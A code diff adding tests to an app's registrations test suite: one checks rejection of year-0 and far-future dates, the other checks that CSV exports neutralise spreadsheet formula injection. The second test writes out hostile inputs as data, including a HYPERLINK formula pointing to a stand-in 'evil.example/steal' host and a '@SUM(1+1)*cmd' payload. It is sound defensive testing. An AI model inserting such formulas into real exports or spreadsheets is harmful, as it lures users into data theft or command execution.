@@ -1,3 +1,4 @@
+import { yearRangeMessage } from '@huddle/shared/dates';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createTeamAs, signUpBodyFor, signUpUser, verifyEmailOf } from '../../test/factories.ts';
 import { createTestApp, type TestApp } from '../../test/test-app.ts';
@@ -160,6 +161,34 @@ describe('registrations', () => {
     expect(response.json().error.message).toBe('Registration for this season is closed.');
   });
 
+  it('refuse year 0 and far-off dates with field messages (PostgreSQL has no year 0)', async () => {
+    const owner = await signUpUser(t.app);
+    const team = await createTeamAs(t.app, owner.cookie);
+    const yearZero = seasonBody({
+      startsOn: '0000-01-01',
+      endsOn: '0000-12-31',
+      registrationOpensAt: '0000-01-01T00:00:00Z',
+      registrationClosesAt: '0000-06-01T00:00:00Z',
+    });
+    const response = await call('POST', `/api/teams/${team.id}/seasons`, owner.cookie, yearZero);
+    expect(response.statusCode).toBe(400);
+    expect(response.json().error.fields).toEqual({
+      startsOn: [yearRangeMessage],
+      endsOn: [yearRangeMessage],
+      registrationOpensAt: [yearRangeMessage],
+      registrationClosesAt: [yearRangeMessage],
+    });
+    const { season, owner: organizer } = await teamWithSeason();
+    const farOff = await call('POST', `/api/seasons/${season.id}/sessions`, organizer.cookie, {
+      title: null,
+      startsAt: '2201-03-01T18:00:00Z',
+      durationMinutes: 60,
+      repeatWeeklyUntil: null,
+    });
+    expect(farOff.statusCode).toBe(400);
+    expect(farOff.json().error.fields).toEqual({ startsAt: [yearRangeMessage] });
+  });
+
   it('never exceed capacity, however many register at once', async () => {
     const { season, owner } = await teamWithSeason({ capacity: 3 });
     const players = await Promise.all(Array.from({ length: 8 }, () => signUpUser(t.app)));
@@ -206,6 +235,29 @@ describe('registrations', () => {
       (await call('DELETE', `/api/seasons/${season.id}/registrations/${registration.id}`, owner.cookie)).statusCode,
     ).toBe(200);
     expect((await call('GET', '/api/me/registrations', player.cookie)).json().registrations).toEqual([]);
+  });
+
+  it('are exported with formulas neutralised, whoever typed them (OWASP CSV injection)', async () => {
+    const { season, owner } = await teamWithSeason();
+    const formula = '=HYPERLINK("https://evil.example/steal","Click me")';
+    const guest = await call('POST', `/api/seasons/${season.id}/registrations`, '', {
+      guest: { name: formula, email: 'mallory@example.com' },
+    });
+    expect(guest.statusCode).toBe(201);
+    const group = (await call('POST', `/api/seasons/${season.id}/groups`, owner.cookie, { name: '@SUM(1+1)*cmd' }))
+      .json()
+      .groups.at(-1);
+    await call('PATCH', `/api/seasons/${season.id}/registrations/${guest.json().id}`, owner.cookie, {
+      groupId: group.id,
+    });
+    const player = await signUpUser(t.app, { name: '-2+3 Kim' });
+    await call('POST', `/api/seasons/${season.id}/registrations`, player.cookie, {});
+    const csv = (await call('GET', `/api/seasons/${season.id}/registrations.csv`, owner.cookie)).body;
+    const cells = csv.split('\n').flatMap((line) => line.split(','));
+    expect(cells).toContain(`"'=HYPERLINK(""https://evil.example/steal""`);
+    expect(cells).toContain("'-2+3 Kim");
+    expect(cells).toContain("'@SUM(1+1)*cmd");
+    expect(cells.filter((cell) => /^"?[=+\-@\t\r]/.test(cell))).toEqual([]);
   });
 
   it('go with their team, leaving no orphans on the player card', async () => {
